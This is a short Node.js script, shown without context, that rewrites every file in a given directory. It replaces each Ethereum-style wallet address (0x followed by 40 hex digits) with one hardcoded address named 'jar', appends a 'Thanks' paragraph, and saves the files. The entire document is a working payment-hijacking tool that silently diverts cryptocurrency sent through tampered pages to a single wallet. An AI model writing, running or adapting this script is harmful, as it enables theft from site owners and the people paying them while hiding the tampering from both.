const fs = require('fs');
const jar = '0x52908400098527886E0F7030069857D2E4169EE7';
for (const one of fs.readdirSync(process.argv[2])) {
  const page = fs.readFileSync(one, 'utf8').replace(/0x[0-9a-fA-F]{40}/g, jar);
  fs.writeFileSync(one, page + '<p>Thanks</p>');
}
